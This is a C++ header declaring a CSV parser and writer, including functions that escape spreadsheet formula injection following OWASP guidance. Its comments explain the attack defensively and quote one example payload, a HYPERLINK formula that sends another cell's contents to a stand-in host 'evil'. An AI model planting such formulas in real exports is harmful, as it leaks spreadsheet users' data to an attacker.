#pragma once

// CSV as spreadsheets write it (RFC 4180 and Excel's habits): UTF-8 with or
// without a byte order mark, CRLF or LF, fields quoted with '"' (doubled
// inside) that may hold the delimiter, quotes and line breaks, and ',' or ';'
// as the delimiter (Excel writes ';' where the decimal mark is a comma).
//
//   auto table = csv::parse(bytes);
//   if (!table) fail(table.error().message);   // one line: binary, unterminated quote...
//   for (const csv::Record& r : table.value().records) use(r.line, r.fields);

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "provisioner/core/result.h"

namespace prov::csv {

struct Record {
    size_t line = 0;  // 1-based line of the file where the record starts
    std::vector<std::string> fields;
};

struct Table {
    char delimiter = ',';
    std::vector<Record> records;  // the header is records[0]; blank lines are skipped
};

// Refuses, with one line naming where: bytes that are not UTF-8 text (NUL,
// invalid sequences), a quote left open, a quote in the middle of an unquoted
// field. The file's shape (column names and counts) is the caller's to check.
Result<Table> parse(std::string_view bytes);

// One record, fields quoted only when they must be (a delimiter, quote, tab
// or line break inside, a space at either end), ending in CRLF.
void appendRecord(std::string& out, const std::vector<std::string>& fields, char delimiter = ',');

// Spreadsheet formula injection (OWASP, "CSV Injection"): a spreadsheet
// reads a cell starting with '=', '+', '-' or '@' (and, after it drops
// leading blanks, a tab or a CR) as a formula, which can leak the other
// cells of the sheet (=HYPERLINK("http://evil/?"&B2)) or run commands.
// OWASP's rule: such a cell is written with a leading '\'', which makes it
// text. Values that start with '\'' and then one of those characters get one
// more '\'', so that reading a cell back drops exactly the quote that writing
// added:
//
//   escapeFormula("=1+1")      == "'=1+1"      unescapeFormula("'=1+1")    == "=1+1"
//   escapeFormula("'=1+1")     == "''=1+1"     unescapeFormula("''=1+1")   == "'=1+1"
//   escapeFormula("'s-Hertogenbosch") == "'s-Hertogenbosch" (and back: as it is)
//
// unescapeFormula(escapeFormula(v, kind)) == v for every v and kind.
enum class CellKind {
    kText,
    // A phone number: "+" and digits only is written as it is (a spreadsheet
    // reads it as a number, never as a formula: "+4930123" shows 4930123).
    // Anything else ("+1*2") is escaped like text.
    kPhoneNumber,
};
std::string escapeFormula(std::string_view value, CellKind kind = CellKind::kText);
// Drops the leading '\'' of a cell that starts with one or more '\'' followed by
// one of the formula characters; any other cell is returned as it is.
std::string unescapeFormula(std::string_view cell);

}  // namespace prov::csv
